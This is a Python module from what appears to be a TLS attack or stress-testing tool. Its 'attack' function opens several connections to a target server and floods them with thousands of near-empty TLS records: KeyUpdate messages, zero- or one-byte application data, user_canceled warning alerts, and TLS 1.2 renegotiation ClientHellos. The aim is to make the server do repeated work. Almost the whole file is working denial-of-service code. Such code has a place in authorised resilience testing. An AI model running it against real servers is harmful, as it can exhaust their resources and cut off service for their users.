"""TLS records that carry nothing, or next to nothing. An event is a record.

``key_update`` and ``key_update_requested``: 27 bytes that make the server derive new keys, the second kind
for both directions, and send one in return. ``empty``: application data of no bytes, which RFC 8446, 5.1
allows. ``tiny``: one byte of it. ``alert``: a warning (user_canceled), which RFC 8446, 6.1 has the server
ignore. ``renegotiation``: a ClientHello on a connection of TLS 1.2 that has had its handshake (RFC 5246,
7.4.1.2), which a server may answer with a warning (no_renegotiation).
"""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator
from typing import Any

from .attacker import Target
from .tls12 import Renegotiator
from .tls13 import ALERT, APPLICATION_DATA, RecordWriter

IN_ONE_SEND = 100

KINDS: dict[str, tuple[Callable[[Target], Any], Callable[[Any], bytes]]] = {
    "key_update": (RecordWriter, lambda writer: writer.key_update(requested=False)),
    "key_update_requested": (RecordWriter, lambda writer: writer.key_update(requested=True)),
    "empty": (RecordWriter, lambda writer: writer.record(APPLICATION_DATA, b"")),
    "tiny": (RecordWriter, lambda writer: writer.record(APPLICATION_DATA, b"x")),
    "alert": (RecordWriter, lambda writer: writer.record(ALERT, b"\x01\x5a")),
    "renegotiation": (Renegotiator, Renegotiator.hello),
}
"""What has done a handshake, and makes records; and how it makes one."""


def attack(target: Target, kind: str, connections: int = 8, batches: int = 40) -> Iterator[tuple[int, int]]:
    """Send what was made beforehand, on all connections by turns, until it is sent or all are cut."""
    senders = [_Sender(target, kind, batches) for _ in range(connections)]
    yield 0, 0
    while senders:
        before = [sender.rest for sender in senders]
        for sender in senders:
            sent = sender.send_some()
            yield sent // sender.record_size, sent
        if [sender.rest for sender in senders] == before:
            time.sleep(0.001)
        senders = [sender for sender in senders if sender.rest]


class _Sender:
    """A connection and the records that it has yet to send."""

    def __init__(self, target: Target, kind: str, batches: int) -> None:
        shake_hands, make = KINDS[kind]
        writer = shake_hands(target)
        made = [make(writer) for _ in range(batches * IN_ONE_SEND)]
        self.record_size = len(made[0])
        self.rest = memoryview(b"".join(made))
        self._sock = writer.sock
        self._sock.setblocking(False)

    def send_some(self) -> int:
        """Send a batch at most, and drop what was received; after a cut nothing is left to send."""
        before = len(self.rest)
        try:
            self.rest = self.rest[self._sock.send(self.rest[: IN_ONE_SEND * self.record_size]) :]
            sent = before - len(self.rest)
            self._sock.recv(1 << 20)
        except BlockingIOError:
            return before - len(self.rest)
        except OSError:
            self.rest = self.rest[:0]
            return 0
        return sent
